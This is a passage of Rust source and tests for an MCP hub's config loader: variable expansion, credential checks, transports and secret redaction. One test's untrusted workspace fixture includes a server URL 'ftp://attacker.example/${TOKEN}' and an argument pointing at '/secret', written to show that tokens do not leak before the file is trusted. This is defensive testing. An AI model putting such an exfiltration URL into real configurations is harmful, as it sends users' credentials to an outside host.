    used: std::cell::RefCell<Vec<(String, String)>>,
}

/// Where variables' values come from: a variable's value, `None` when it is unset.
type Vars<'a> = &'a dyn Fn(&str) -> Option<String>;

/// A credential an entry lacks: what the user sets (a variable, or the key whose value is
/// a placeholder) and the problem, located.
struct Missing {
    key: String,
    problem: ConfigProblem,
}

impl<'a> Entry<'a> {
    fn new(name: &'a str, origin: &'a Origin) -> Entry<'a> {
        Entry {
            name,
            origin,
            env: None,
            missing: Default::default(),
            used: Default::default(),
        }
    }

    /// A variable's value, noted as used (to be taken out of messages).
    fn lookup(&self, var: &str) -> Option<String> {
        let value = self.env?(var)?;
        if var != WORKSPACE_FOLDER {
            self.used
                .borrow_mut()
                .push((var.to_string(), value.clone()));
        }
        Some(value)
    }

    /// A problem of this entry, in `field` (`None`: the entry as a whole).
    fn problem(&self, field: Option<&str>, message: impl Into<String>) -> ConfigProblem {
        ConfigProblem {
            file: self.origin.file().to_path_buf(),
            server: Some(self.name.to_string()),
            field: field.map(str::to_string),
            message: message.into(),
        }
    }

    /// A value that may carry a credential (`env`, `headers`, `args`, `url`), expanded: each
    /// unset variable is a missing credential (named by the variable), and so is a value
    /// of `key` (an `env` key or a header) that is a placeholder; what is missing expands
    /// to nothing.
    fn credential(&self, field: &str, key: Option<&str>, text: &str) -> String {
        if self.env.is_none() {
            return text.to_string();
        }
        let mut unset = Vec::new();
        let value = expand_collecting(text, &|var| self.lookup(var), &mut unset);
        let mut missing = self.missing.borrow_mut();
        for var in &unset {
            missing.push(Missing {
                key: var.clone(),
                problem: self.problem(
                    Some(field),
                    format!("${{{var}}} is not set in the environment"),
                ),
            });
        }
        let credential = value
            .split_once(' ')
            .filter(|(scheme, _)| {
                ["bearer", "token", "basic"].contains(&scheme.to_ascii_lowercase().as_str())
            })
            .map_or(value.as_str(), |(_, rest)| rest);
        if let Some(key) = key
            && unset.is_empty()
            && placeholder::is_placeholder(credential)
        {
            missing.push(Missing {
                key: key.to_string(),
                problem: self.problem(Some(field), "is a placeholder, not a credential"),
            });
        }
        value
    }

    /// `text` of `field` with its variables expanded ([`expand_vars`]).
    fn expand(&self, field: &str, text: &str) -> Result<String, ConfigProblem> {
        if self.env.is_none() {
            return Ok(text.to_string());
        }
        expand_vars(text, &|var| self.lookup(var)).map_err(|var| {
            self.problem(
                Some(field),
                format!("${{{var}}} is not set in the environment"),
            )
        })
    }
}

/// The entry as written; a field of the wrong type is named.
fn read_entry(entry: &Entry, value: Value) -> Result<RawServer, ConfigProblem> {
    serde_path_to_error::deserialize(value).map_err(|e| {
        let path = e.path().to_string();
        entry.problem(
            (path != ".").then_some(path.as_str()),
            e.inner().to_string(),
        )
    })
}

/// The entry's settings other than its transport: flags, descriptions, the timeout.
fn apply_settings(
    server: &mut ServerConfig,
    entry: &Entry,
    raw: &RawServer,
) -> Result<(), ConfigProblem> {
    server.disabled = raw.disabled;
    server.autostart = raw.autostart.unwrap_or(true);
    server.core = raw.core;
    server.category = raw.category.clone();
    server.description = raw.description.clone();
    server.disabled_prompts = raw.disabled_prompts.iter().cloned().collect();
    let millis = |field: &str, ms: Option<u64>, default: Duration| match ms {
        Some(0) => Err(entry.problem(Some(field), "must be more than 0")),
        Some(ms) => Ok(Duration::from_millis(ms)),
        None => Ok(default),
    };
    server.timeout = millis("timeout_ms", raw.timeout_ms, server.timeout)?;
    server.start_timeout = millis(
        "start_timeout_ms",
        raw.start_timeout_ms,
        server.start_timeout,
    )?;
    server.question_timeout = millis(
        "question_timeout_ms",
        raw.question_timeout_ms,
        server.question_timeout,
    )?;
    Ok(())
}

/// How to reach the server: `command` (stdio) or `url` (Streamable HTTP), as `type` allows.
fn transport(entry: &Entry, raw: &RawServer, dirs: &Dirs) -> Result<Transport, ConfigProblem> {
    let kind = raw.kind.as_deref().map(str::to_ascii_lowercase);
    match (&raw.command, &raw.url, kind.as_deref()) {
        (Some(_), Some(_), _) => {
            Err(entry.problem(None, "has both 'command' and 'url': choose one"))
        }
        (None, None, _) => {
            Err(entry.problem(None, "needs 'command' (stdio) or 'url' (Streamable HTTP)"))
        }
        (_, _, Some("sse")) => Err(entry.problem(
            Some("type"),
            "the legacy SSE transport is not supported; use the server's Streamable HTTP endpoint",
        )),
        (Some(command), None, None | Some("stdio")) => stdio(entry, command, raw, dirs),
        (
            None,
            Some(url),
            None | Some("http") | Some("streamable-http") | Some("streamablehttp"),
        ) => http(entry, url, raw),
        (_, _, Some(other)) => Err(entry.problem(
            Some("type"),
            format!("unknown transport '{other}' (stdio or http)"),
        )),
    }
}

/// A stdio transport: the command, its arguments and environment expanded, its working
/// directory (relative to where the file's servers start, [`Dirs`]; default: there).
fn stdio(
    entry: &Entry,
    command: &str,
    raw: &RawServer,
    dirs: &Dirs,
) -> Result<Transport, ConfigProblem> {
    let command = entry.expand("command", command)?;
    if command.trim().is_empty() {
        return Err(entry.problem(Some("command"), "is empty"));
    }
    let args = raw
        .args
        .iter()
        .enumerate()
        .map(|(i, a)| entry.credential(&format!("args[{i}]"), None, a))
        .collect();
    let env = raw
        .env
        .iter()
        .map(|(k, v)| (k.clone(), entry.credential(&format!("env.{k}"), Some(k), v)))
        .collect();
    let base = match entry.origin {
        Origin::User(_) => &dirs.home,
        Origin::Workspace(_) => dirs.workspace,
    };
    let cwd = match &raw.cwd {
        // An absolute path (`${workspaceFolder}`, say) replaces the base.
        Some(c) => base.join(entry.expand("cwd", c)?),
        None => base.to_path_buf(),
    };
    Ok(Transport::Stdio {
        command,
        args,
        env,
        cwd,
    })
}

/// A Streamable HTTP transport: an http(s) URL and its headers, expanded.
fn http(entry: &Entry, written: &str, raw: &RawServer) -> Result<Transport, ConfigProblem> {
    let url = entry.credential("url", None, written);
    if !entry.missing.borrow().is_empty() {
        // The URL is not whole; what it lacks is the entry's error.
    } else if !(url.starts_with("http://") || url.starts_with("https://")) {
        // As written: the expanded URL may carry a credential.
        return Err(entry.problem(Some("url"), format!("'{written}' is not an http(s) URL")));
    }
    let headers = raw
        .headers
        .iter()
        .map(|(k, v)| {
            (
                k.clone(),
                entry.credential(&format!("headers.{k}"), Some(k), v),
            )
        })
        .collect();
    let oauth = match &raw.oauth {
        None => OAuth::default(),
        Some(o) => OAuth {
            access_token: o
                .access_token
                .as_ref()
                .map(|t| entry.credential("oauth.accessToken", Some("oauth.accessToken"), t)),
            client_id: o
                .client_id
                .as_ref()
                .map(|id| entry.expand("oauth.clientId", id))
                .transpose()?,
            client_secret: o
                .client_secret
                .as_ref()
                .map(|s| entry.credential("oauth.clientSecret", Some("oauth.clientSecret"), s)),
            client_metadata_url: match &o.client_metadata_url {
                None => None,
                Some(url) => {
                    let url = entry.expand("oauth.clientMetadataUrl", url)?;
                    if !crate::hub::client::oauth::is_client_metadata_url(&url) {
                        return Err(entry.problem(
                            Some("oauth.clientMetadataUrl"),
                            "must be an https:// URL with a path, where your Client ID \
                             Metadata Document is served",
                        ));
                    }
                    Some(url)
                }
            },
            scopes: o.scopes.clone(),
            sign_in_timeout: match o.sign_in_timeout_ms {
                Some(0) => {
                    return Err(entry.problem(Some("oauth.signInTimeoutMs"), "must be more than 0"));
                }
                ms => ms.map(Duration::from_millis),
            },
        },
    };
    if oauth.client_secret.is_some() && oauth.client_id.is_none() {
        return Err(entry.problem(
            Some("oauth.clientSecret"),
            "needs oauth.clientId: a secret belongs to a pre-registered client",
        ));
    }
    Ok(Transport::Http {
        url,
        headers,
        oauth,
    })
}

/// Expands `${VAR}`, `${env:VAR}` and `${VAR:-default}`; `$$` is a literal `$`. An unset
/// variable without a default is an error naming it.
pub fn expand_vars(text: &str, env: &dyn Fn(&str) -> Option<String>) -> Result<String, String> {
    expand(text, env, &mut |_| false)
}

/// [`expand_vars`], with each unset variable without a default expanded to nothing and
/// added to `unset`.
fn expand_collecting(
    text: &str,
    env: &dyn Fn(&str) -> Option<String>,
    unset: &mut Vec<String>,
) -> String {
    let mut keep = |var: &str| {
        unset.push(var.to_string());
        true
    };
    expand(text, env, &mut keep).expect("every unset variable is kept")
}

/// Expands `text`; an unset variable without a default is given to `unset`, which says
/// whether to go on (it expands to nothing) or fail naming it.
fn expand(
    text: &str,
    env: &dyn Fn(&str) -> Option<String>,
    unset: &mut dyn FnMut(&str) -> bool,
) -> Result<String, String> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find('$') {
        out.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        if let Some(tail) = after.strip_prefix('$') {
            out.push('$');
            rest = tail;
            continue;
        }
        let Some(body) = after.strip_prefix('{') else {
            out.push('$');
            rest = after;
            continue;
        };
        let Some(end) = body.find('}') else {
            // An unclosed `${` is kept as written.
            out.push_str(&rest[i..]);
            return Ok(out);
        };
        let expr = &body[..end];
        let expr = expr.strip_prefix("env:").unwrap_or(expr);
        let (var, default) = match expr.split_once(":-") {
            Some((v, d)) => (v, Some(d)),
            None => (expr, None),
        };
        match (env(var), default) {
            (Some(v), _) => out.push_str(&v),
            (None, Some(d)) => out.push_str(d),
            (None, None) if unset(var) => {}
            (None, None) => return Err(var.to_string()),
        }
        rest = &body[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn trusted(_: &Path, _: &str) -> bool {
        true
    }

    /// The names a struct's `Deserialize` takes (aliases included), as serde hands them to
    /// the deserializer.
    fn accepted<'de, T: Deserialize<'de>>() -> Vec<&'static str> {
        struct Fields(std::cell::Cell<&'static [&'static str]>);
        impl<'de> serde::Deserializer<'de> for &Fields {
            type Error = serde::de::value::Error;
            fn deserialize_any<V: serde::de::Visitor<'de>>(
                self,
                _: V,
            ) -> Result<V::Value, Self::Error> {
                Err(serde::de::Error::custom("only a struct's fields are read"))
            }
            fn deserialize_struct<V: serde::de::Visitor<'de>>(
                self,
                _: &'static str,
                fields: &'static [&'static str],
                _: V,
            ) -> Result<V::Value, Self::Error> {
                self.0.set(fields);
                Err(serde::de::Error::custom("fields read"))
            }
            serde::forward_to_deserialize_any! {
                bool i8 i16 i32 i64 i128 u8 u16 u32 u64 u128 f32 f64 char str string bytes
                byte_buf option unit unit_struct newtype_struct seq tuple tuple_struct map enum
                identifier ignored_any
            }
        }
        let fields = Fields(std::cell::Cell::new(&[]));
        let _ = T::deserialize(&fields);
        fields.0.get().to_vec()
    }

    /// The property names of a schema object.
    fn properties<'a>(schema: &'a Value, at: &str) -> Vec<&'a str> {
        schema
            .pointer(at)
            .and_then(Value::as_object)
            .unwrap_or_else(|| panic!("no properties at {at}"))
            .keys()
            .map(String::as_str)
            .collect()
    }

    /// Each name the schema gives is read, and each field read has a name in the schema
    /// (in one of its spellings, `snake_case` or `camelCase`).
    fn same_fields(what: &str, schema: &[&str], read: &[&str], elsewhere: &[&str]) {
        for name in schema {
            assert!(
                read.contains(name) || elsewhere.contains(name),
                "{what}: the schema names {name}, which the reader ignores"
            );
        }
        let camel = |s: &str| {
            let mut out = String::new();
            let mut up = false;
            for c in s.chars() {
                match c {
                    '_' => up = true,
                    c if up => {
                        out.extend(c.to_uppercase());
                        up = false;
                    }
                    c => out.push(c),
                }
            }
            out
        };
        for name in read {
            assert!(
                schema.contains(name) || schema.contains(&camel(name).as_str()),
                "{what}: the reader takes {name}, which the schema does not name"
            );
        }
    }

    #[test]
    fn the_editor_schemas_name_what_the_config_reader_takes() {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../editor/vscode/schemas");
        let read = |file: &str| -> Value {
            serde_json::from_str(&std::fs::read_to_string(root.join(file)).unwrap()).unwrap()
        };
        let (user, workspace) = (read("config.schema.json"), read("mcp.schema.json"));
        for schema in [&user, &workspace] {
            let server = "/definitions/server/properties";
            same_fields(
                "a server",
                &properties(schema, server),
                &accepted::<RawServer>(),
                &[],
            );
            same_fields(
                "a server's oauth",
                &properties(schema, &format!("{server}/oauth/properties")),
                &accepted::<RawOAuth>(),
                &[],
            );
        }
        // `memory` is the knowledge base's own member of the user's file.
        same_fields(
            "the user's file",
            &properties(&user, "/properties"),
            &accepted::<RawFile>(),
            &["memory"],
        );
        let conventional = "/properties/conventionalPrompts/properties";
        same_fields(
            "conventionalPrompts",
            &properties(&user, conventional),
            &accepted::<Conventional>(),
            &[],
        );
        same_fields(
            "a server's injection rules",
            &properties(
                &user,
                &format!("{conventional}/servers/additionalProperties/properties"),
            ),
            &accepted::<ServerRules>(),
            &[],
        );
        same_fields(
            "a prompt's injection rules",
            &properties(&user, "/definitions/promptRules/properties"),
            &accepted::<PromptRules>(),
            &[],
        );
    }

    fn env(var: &str) -> Option<String> {
        match var {
            "TOKEN" => Some("s3cret".into()),
            "HOME" => Some("/home/u".into()),
            _ => None,
        }
    }

    #[test]
    fn variables_expand_with_defaults_and_escapes() {
        let cases: &[(&str, Result<&str, &str>)] = &[
            ("Bearer ${TOKEN}", Ok("Bearer s3cret")),
            ("${env:HOME}/bin", Ok("/home/u/bin")),
            ("${MISSING:-fallback}", Ok("fallback")),
            ("$$HOME and $HOME", Ok("$HOME and $HOME")),
            ("${MISSING}", Err("MISSING")),
            ("open ${", Ok("open ${")),
        ];
        for (input, want) in cases {
            let got = expand_vars(input, &env);
            assert_eq!(got.as_deref().map_err(String::as_str), *want, "{input}");
        }
    }

    #[test]
    fn every_missing_credential_is_named() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(
            dir.path(),
            "config.json",
            r#"{"mcpServers": {
                "sentry": {"command": "npx", "args": ["-y", "@sentry/mcp-server", "--org=${SENTRY_ORG}"],
                           "env": {"SENTRY_AUTH_TOKEN": "${SENTRY_AUTH_TOKEN}", "SENTRY_HOST": "YOUR_HOST_HERE", "HOME_DIR": "${HOME}"}},
                "remote": {"url": "https://${REMOTE_HOST}/mcp", "headers": {"Authorization": "Bearer <token>", "X-Team": "core"}},
                "fine": {"command": "x", "env": {"TOKEN": "${TOKEN}", "MODE": "production"}, "core": false},
                "pinned": {"command": "y", "core": true}
              }}"#,
        );
        let c = load(&user, dir.path(), &env, &trusted);
        let sentry = &c.servers["sentry"];
        assert_eq!(
            sentry.missing_env_keys,
            ["SENTRY_ORG", "SENTRY_AUTH_TOKEN", "SENTRY_HOST"]
        );
        assert_eq!(sentry.transport, None);
        let error = sentry.error.as_ref().unwrap();
        assert_eq!(error.field.as_deref(), Some("args[2]"));
        assert_eq!(error.message, "${SENTRY_ORG} is not set in the environment");
        let remote = &c.servers["remote"];
        assert_eq!(remote.missing_env_keys, ["REMOTE_HOST", "Authorization"]);
        assert_eq!(remote.error.as_ref().unwrap().field.as_deref(), Some("url"));
        let fine = &c.servers["fine"];
        assert!(
            fine.missing_env_keys.is_empty() && fine.error.is_none(),
            "{fine:?}"
        );
        assert!(!fine.is_core());
        assert!(c.servers["pinned"].is_core());
    }

    fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, text).unwrap();
        p
    }

    /// A temp dir with the user's file (`user`) and a workspace `ws` with its file
    /// (`workspace`): `(dir, workspace root, user file)`.
    fn both_files(user: &str, workspace: &str) -> (tempfile::TempDir, PathBuf, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        let user = write(dir.path(), "config.json", user);
        write(&ws, WORKSPACE_FILE, workspace);
        (dir, ws, user)
    }

    /// The memory's settings share the user's file (`memory.embeddings.model`): the hub
    /// reads past them, and its edits keep them.
    #[test]
    fn the_memory_key_is_no_concern_of_the_hub() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(
            dir.path(),
            "config.json",
            r#"{
  "memory": {"embeddings": {"model": "minishlab/potion-base-8M"}},
  "mcpServers": {"a": {"command": "x"}}
}"#,
        );
        let c = load(&user, dir.path(), &env, &trusted);
        assert!(c.errors.is_empty(), "{:?}", c.errors);
        assert!(c.servers["a"].error.is_none(), "{:?}", c.servers["a"]);
        edit_servers(
            &user,
            &[("b".to_string(), serde_json::json!({"command": "y"}))],
        )
        .unwrap();
        let written: Value =
            serde_json::from_str(&std::fs::read_to_string(&user).unwrap()).unwrap();
        assert_eq!(
            written["memory"]["embeddings"]["model"],
            "minishlab/potion-base-8M"
        );
        assert_eq!(load(&user, dir.path(), &env, &trusted).servers.len(), 2);
    }

    /// `bootWaitMs` is the user's: read from their file, refused (as a problem of that key
    /// alone) when it is not a whole number of milliseconds in range, ignored in a
    /// workspace's file.
    #[test]
    fn the_boot_wait_is_the_users_setting() {
        let (_dir, ws, user) = both_files(
            r#"{"bootWaitMs": 1500, "mcpServers": {"a": {"command": "x"}}}"#,
            r#"{"bootWaitMs": 0}"#,
        );
        let c = load(&user, &ws, &env, &trusted);
        assert!(c.errors.is_empty(), "{:?}", c.errors);
        assert_eq!(c.boot_wait(), Duration::from_millis(1500));
        assert!(c.has_boot_servers());
        assert_eq!(boot_plan(&user, &ws), (Duration::from_millis(1500), true));

        for wrong in [r#""3s""#, "-1", "2.5", "600000"] {
            let (_dir, ws, user) = both_files(
                &format!(
                    r#"{{"bootWaitMs": {wrong}, "mcpServers": {{"a": {{"command": "x", "autostart": false}}}}}}"#
                ),
                "{}",
            );
            let c = load(&user, &ws, &env, &trusted);
            assert_eq!(c.boot_wait(), DEFAULT_BOOT_WAIT, "{wrong}");
            assert_eq!(c.errors.len(), 1, "{wrong}: {:?}", c.errors);
            assert_eq!(c.errors[0].field.as_deref(), Some(BOOT_WAIT_KEY));
            assert_eq!(c.servers.len(), 1, "the rest of the file still counts");
            assert!(!c.has_boot_servers(), "a server on demand does not boot");
        }
    }

    #[test]
    fn files_merge_and_errors_name_file_server_and_field() {
        let (_dir, ws, user) = both_files(
            r#"{"mcpServers": {
                "shared": {"command": "user-version"},
                "api": {"url": "http://api.example/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}},
                "broken": {"command": "x", "args": ["ok", 3]},
                "secret": {"command": "x", "env": {"KEY": "${NOPE}"}}
              },
              "conventionalPrompts": {"servers": {"shared": {"priority": 5}}}}"#,
            r#"{"mcpServers": {
                "shared": {"command": "npx", "args": ["-y", "srv"], "cwd": "tools", "disabled_prompts": ["noisy"], "timeoutMs": 2500},
                "both": {"command": "x", "url": "http://y"},
                "legacy": {"type": "sse", "url": "http://y/sse"}
              }}"#,
        );
        let c = load(&user, &ws, &env, &trusted);
        assert!(c.errors.is_empty(), "{:?}", c.errors);
        let shared = &c.servers["shared"];
        assert_eq!(shared.origin, Origin::Workspace(ws.join(WORKSPACE_FILE)));
        assert_eq!(
            shared.transport,
            Some(Transport::Stdio {
                command: "npx".into(),
                args: vec!["-y".into(), "srv".into()],
                env: BTreeMap::new(),
                cwd: ws.join("tools"),
            })
        );
        assert_eq!(shared.timeout, Duration::from_millis(2500));
        assert!(shared.disabled_prompts.contains("noisy"));
        match &c.servers["api"].transport {
            Some(Transport::Http { headers, .. }) => {
                assert_eq!(headers["Authorization"], "Bearer s3cret")
            }
            other => panic!("{other:?}"),
        }
        let broken = c.servers["broken"].error.as_ref().unwrap();
        assert_eq!(broken.field.as_deref(), Some("args[1]"));
        assert!(broken.to_string().starts_with(&format!(
            "{}: server 'broken', field 'args[1]': ",
            user.display()
        )));
        let secret = c.servers["secret"].error.as_ref().unwrap().to_string();
        assert!(
            secret.ends_with("field 'env.KEY': ${NOPE} is not set in the environment"),
            "{secret}"
        );
        assert!(
            c.servers["both"]
                .error
                .as_ref()
                .unwrap()
                .message
                .contains("choose one")
        );
        assert_eq!(
            c.servers["legacy"].error.as_ref().unwrap().field.as_deref(),
            Some("type")
        );
        assert_eq!(c.conventional.servers["shared"].priority, Some(5));
        assert!(c.workspace_file.is_some());
    }

    /// A repository's file, not approved: no variable of the daemon's environment gets
    /// into it, and its `conventionalPrompts` (re-enabling what the user turned off,
    /// pointing an argument elsewhere) apply only once it is approved.
    #[test]
    fn an_untrusted_workspace_file_is_kept_as_written() {
        let (_dir, ws, user) = both_files(
            r#"{"mcpServers": {"shared": {"command": "mine"}},
                "conventionalPrompts": {"servers": {"obs": {"prompts": {"p": {"enabled": false}}}}}}"#,
            r#"{"mcpServers": {
                "shared": {"command": "theirs"},
                "leak": {"url": "ftp://attacker.example/${TOKEN}"},
                "run": {"command": "x", "args": ["${TOKEN}"], "env": {"K": "${env:TOKEN}"}}
              },
              "conventionalPrompts": {"enabled": true, "servers": {"obs": {"prompts": {"p": {"enabled": true, "arguments": {"file": "/secret"}}}}}}}"#,
        );
        let c = load(&user, &ws, &env, &|_, _| false);
        assert!(!c.workspace_trusted && c.workspace_file.is_some());
        assert!(!format!("{c:?}").contains("s3cret"), "{c:?}");
        let leak = c.servers["leak"].error.as_ref().unwrap().to_string();
        assert!(
            leak.ends_with("field 'url': 'ftp://attacker.example/${TOKEN}' is not an http(s) URL"),
            "{leak}"
        );
        let run = &c.servers["run"];
        assert_eq!(run.runs.as_deref(), Some("x '${TOKEN}'"));
        assert!(run.missing_env_keys.is_empty() && run.error.is_none());
        assert_eq!(c.conventional.enabled, None);
        assert_eq!(
            c.conventional.servers["obs"].prompts["p"].enabled,
            Some(false)
        );
        let runs = |s: &ServerConfig| s.runs.clone().unwrap();
        assert_eq!(runs(&c.servers["shared"]), "mine");
        assert_eq!(c.held_back.iter().map(runs).collect::<Vec<_>>(), ["theirs"]);

        let c = load(&user, &ws, &env, &trusted);
        assert!(c.workspace_trusted && c.held_back.is_empty());
        assert_eq!(runs(&c.servers["shared"]), "theirs");
        let leak = c.servers["leak"].error.as_ref().unwrap().to_string();
        assert!(
            !leak.contains("s3cret") && leak.contains("${TOKEN}"),
            "{leak}"
        );
        let run = &c.servers["run"];
        assert_eq!(run.runs.as_deref(), Some("x '${TOKEN}'"));
        match &run.transport {
            Some(Transport::Stdio { args, env, .. }) => {
                assert_eq!((args[0].as_str(), env["K"].as_str()), ("s3cret", "s3cret"))
            }
            other => panic!("{other:?}"),
        }
        let rules = &c.conventional.servers["obs"].prompts["p"];
        assert_eq!(rules.enabled, Some(true));
        assert_eq!(rules.arguments["file"], "/secret");
    }

    /// Launchers look in their working directory first: a server of the user's file starts
    /// in the home, where the repository has put nothing.
    #[test]
    fn the_users_servers_start_in_the_home_unless_they_ask_for_the_workspace() {
        let (dir, ws, user) = both_files(
            r#"{"mcpServers": {
                "plain": {"command": "npx", "args": ["-y", "some-mcp-server"]},
                "relative": {"command": "x", "cwd": "tools"},
                "here": {"command": "x", "cwd": "${workspaceFolder}", "args": ["--root=${workspaceFolder}"],
                         "env": {"ROOT": "${workspaceFolder}/src"}}
              }}"#,
            r#"{"mcpServers": {"repo": {"command": "y"}, "repo-sub": {"command": "y", "cwd": "sub"}}}"#,
        );
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        let env = |var: &str| (var == "HOME").then(|| home.display().to_string());
        let stdio = |c: &HubConfig, name: &str| match &c.servers[name].transport {
            Some(Transport::Stdio { cwd, args, env, .. }) => {
                (cwd.clone(), args.clone(), env.clone())
            }
            other => panic!("{name}: {other:?}"),
        };
        let c = load(&user, &ws, &env, &trusted);
        assert_eq!(stdio(&c, "plain").0, home);
        assert_eq!(stdio(&c, "relative").0, home.join("tools"));
        let (cwd, args, vars) = stdio(&c, "here");
        assert_eq!(cwd, ws);
        assert_eq!(args, [format!("--root={}", ws.display())]);
        assert_eq!(vars["ROOT"], format!("{}/src", ws.display()));
        assert_eq!(
            c.servers["here"].runs.as_deref(),
            Some("x '--root=${workspaceFolder}'")
        );
        assert_eq!(stdio(&c, "repo").0, ws);
        assert_eq!(stdio(&c, "repo-sub").0, ws.join("sub"));
        // No home known: the data dir.
        let c = load(&user, &ws, &|_| None, &trusted);
        assert_eq!(stdio(&c, "plain").0, dir.path());
    }

    /// A connect error quotes the URL it tried: shown, it carries the URL as written.
    #[test]
    fn expanded_values_are_taken_out_of_messages() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(
            dir.path(),
            "config.json",
            r#"{"mcpServers": {"api": {"url": "http://127.0.0.1:1/${TOKEN}", "headers": {"X-Key": "key-${TOKEN}"}}}}"#,
        );
        let c = load(&user, dir.path(), &env, &trusted);
        let api = &c.servers["api"];
        assert_eq!(api.runs.as_deref(), Some("http://127.0.0.1:1/${TOKEN}"));
        assert_eq!(
            api.redact(
                "error sending request for url (http://127.0.0.1:1/s3cret); sent key-s3cret, s3cret"
            ),
            "error sending request for url (http://127.0.0.1:1/${TOKEN}); sent key-${TOKEN}, ${TOKEN}"
        );
    }

    /// An entry's `oauth`: its token and secret expand and are taken out of messages (and
    /// out of `Debug`); a secret without a client, or an unknown key, is the entry's error.
    #[test]
    fn oauth_settings_are_read_and_kept_out_of_sight() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(
            dir.path(),
            "config.json",
            r#"{"mcpServers": {
                "hosted": {"type": "http", "url": "https://mcp.example.com/mcp",
                           "oauth": {"clientId": "tandem-app", "clientSecret": "${TOKEN}",
                                     "scopes": ["read", "write"], "signInTimeoutMs": 5000}},
                "given": {"url": "https://mcp.example.com/mcp", "oauth": {"accessToken": "Bearer-${TOKEN}"}},
                "lonely": {"url": "https://mcp.example.com/mcp", "oauth": {"clientSecret": "x"}},
                "typo": {"url": "https://mcp.example.com/mcp", "oauth": {"clientID": "x"}},
                "documented": {"url": "https://mcp.example.com/mcp",
                               "oauth": {"clientMetadataUrl": "https://example.org/tandem.json"}},
                "plain-document": {"url": "https://mcp.example.com/mcp",
                                   "oauth": {"clientMetadataUrl": "http://example.org/tandem.json"}},
                "bare-document": {"url": "https://mcp.example.com/mcp",
                                  "oauth": {"clientMetadataUrl": "https://example.org/"}}
            }}"#,
        );
        let c = load(&user, dir.path(), &env, &trusted);
        let oauth = |name: &str| match &c.servers[name].transport {
            Some(Transport::Http { oauth, .. }) => oauth.clone(),
            other => panic!("{name}: {other:?}"),
        };
        let hosted = oauth("hosted");
        assert_eq!(hosted.client_id.as_deref(), Some("tandem-app"));
        assert_eq!(hosted.client_secret.as_deref(), Some("s3cret"));
        assert_eq!(hosted.scopes, ["read", "write"]);
        assert_eq!(hosted.sign_in_timeout, Some(Duration::from_secs(5)));
        assert!(!format!("{hosted:?}").contains("s3cret"));
        assert_eq!(
            c.servers["hosted"].redact("refused s3cret"),
            "refused ${TOKEN}"
        );
        assert_eq!(
            oauth("given").access_token.as_deref(),
            Some("Bearer-s3cret")
        );
        assert_eq!(
            c.servers["lonely"].error.as_ref().unwrap().field.as_deref(),
            Some("oauth.clientSecret")
        );
        assert!(c.servers["typo"].error.is_some());
        assert_eq!(
            oauth("documented").client_metadata_url.as_deref(),
            Some("https://example.org/tandem.json")
        );
        for name in ["plain-document", "bare-document"] {
            assert_eq!(
                c.servers[name].error.as_ref().unwrap().field.as_deref(),
                Some("oauth.clientMetadataUrl"),
                "{name}"
            );
        }
    }

    #[test]
    fn tandem_itself_is_not_a_downstream_server() {
        let dir = tempfile::tempdir().unwrap();
        let exe = std::env::current_exe().unwrap();
        let user = write(
            dir.path(),
            "config.json",
            &serde_json::json!({"mcpServers": {
                "tandem": {"command": "tandem", "args": ["mcp"]},
                "pinned": {"command": "/opt/tandem/bin/tandem", "args": ["mcp", "--standalone"]},
                "this-binary": {"command": exe, "args": ["mcp"]},
                "other-face": {"command": "tandem", "args": ["lsp"]},
                "python": {"command": "python3", "args": ["mcp"]},
            }})
            .to_string(),
        );
        let c = load(&user, dir.path(), &env, &trusted);
        assert_eq!(
            c.servers.keys().collect::<Vec<_>>(),
            ["other-face", "python"]
        );
    }

    #[test]
    fn a_file_that_does_not_parse_is_named() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(dir.path(), "config.json", "{\"mcpServers\": {");
        let c = load(&user, dir.path(), &env, &trusted);
        assert_eq!(c.errors.len(), 1);
        let e = c.errors[0].to_string();
        assert!(
            e.starts_with(&format!("{}: not valid JSON", user.display())),
            "{e}"
        );
        assert!(c.servers.is_empty());
    }
}
